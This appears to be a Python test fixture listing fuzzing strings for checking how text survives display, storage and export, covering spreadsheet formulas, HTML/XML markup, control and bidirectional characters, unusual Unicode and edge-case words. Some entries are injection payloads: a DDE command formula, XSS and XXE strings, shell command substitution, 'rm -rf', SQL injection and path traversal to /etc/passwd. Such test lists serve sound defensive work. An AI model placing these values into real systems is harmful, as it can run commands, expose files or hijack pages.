"""Text that hurts where it is shown, stored, exported or taken for something else. No string is a word that means "empty"."""

FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "=HYPERLINK(\"http://x.test?\"&A1,\"here\")", "\t=1+1", "\r=1+1", "'=1+1", "=", "-", "+", "@",
            "=IMPORTXML(\"http://x.test\",\"//a\")", "\uff1d1+1"]
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'><b>bold</b>", "</td></tr></table>", "</text><text x='0'>", "<!--", "-->", "]]>",
          "<![CDATA[x]]>", "<?php echo 1 ?>", "&lt;b&gt;", "&amp;", "&#60;b&#62;", "&", "<", ">", "\"", "'", "</style><style>*{display:none}</style>", "javascript:alert(1)",
          "<a href=\"javascript:alert(1)\">x</a>", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "\\u003cb\\u003e", "<plaintext>", "<x \u2028 onclick=1>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"]
CONTROLS = ["\x01", "a\x07bell", "back\x08\x08\x08\x08gone", "x\rHONEST LTD", "two\nlines", "tab\tstop", "\x0b\x0c", "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://x.test\x1b\\link\x1b]8;;\x1b\\",
            "\x1bP$q\"p\x1b\\", "\x9b31mC1", "\x90\x9c", "\x7f\x7f", "\x85next", "nul\\0", "\x0e\x0fshift", "\x1a", "\x1b"]
BIDI = ["\u202egnp.exe", "\u202dforced", "\u2066isolate\u2069", "\u2067\u2068", "a\u200bb", "\u200cjoin\u200d", "\u200e\u200f", "\u061c", "\ufeff", "\u2060\u2063", "\u2028line\u2029", "\U000e0041\U000e0042tags",
        "a\u00adb", "עברית ABC", "الجمارك", "شركة ABC 123", "\u034f", "\u180e", "\u3164", "\u115f", "\ufff9x\ufffay\ufffb"]
MARKS = ["Z\u0351\u036b\u0343\u036a\u0302a\u0301\u0302\u0303\u0304l\u0300\u0316\u0317g\u0321o\u0488\u0489", "\u0301alone", "e" + "\u0301" * 60, "\u20dd", "क्षत्रिय", "ไทยทดสอบ", "각", "\u1112\u1161\u11ab"]
WIDE = ["税関", "ソレール・アンド", "😀", "👩‍👩‍👧‍👦", "🇯🇴🇫🇷", "👍🏽", "ﷺ", "﷽", "ⅷ⑧", "ｆｕｌｌ", "𝕿𝖍𝖊", "\U0010fffd", "\ue000", "\ufffd", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "ß İ ı ſ", "Ⱥ", "аpple", "Ω≈ç√∫", "田" * 80]
WORDS = ["undefined", "None", "nil", "NaN", "Infinity", "true", "0", "1/0", "-1", "1e5", "0x1F", "007", "1.0", "1,000", "12/11/2026", "CON", "NUL", "../../etc/passwd", "/dev/null", "%s%n%x%p", "%00", "$HOME",
         "`id`", "$(id)", "; rm -rf x", "| cat", "'; DROP TABLE declaration;--", "\" OR 1=1 --", "\\", "\\\"", "\\n", "a,b;c|d", "--help", "-", "--", "*", "?", "[a]", "sep=;", "# no comment", "R1|R7|", "||", "~", "^",
         "x" * 255, "é" * 127, "a b", "a  b", " lead", "trail ", "\u00a0hard\u00a0", "_", ".", "...", "other", "total", "unknown", "—", "Scunthorpe", "null and void", "office=NGT", "synthetic"]
LONG = ["long " * 200, "田" * 400, "a" + "\u0301" * 2000, "<b>" * 300, "\u202e" * 300, "=" * 1000, "line\n" * 60]

HOSTILE = list(dict.fromkeys(FORMULAS + MARKUP + CONTROLS + BIDI + MARKS + WIDE + WORDS + LONG))
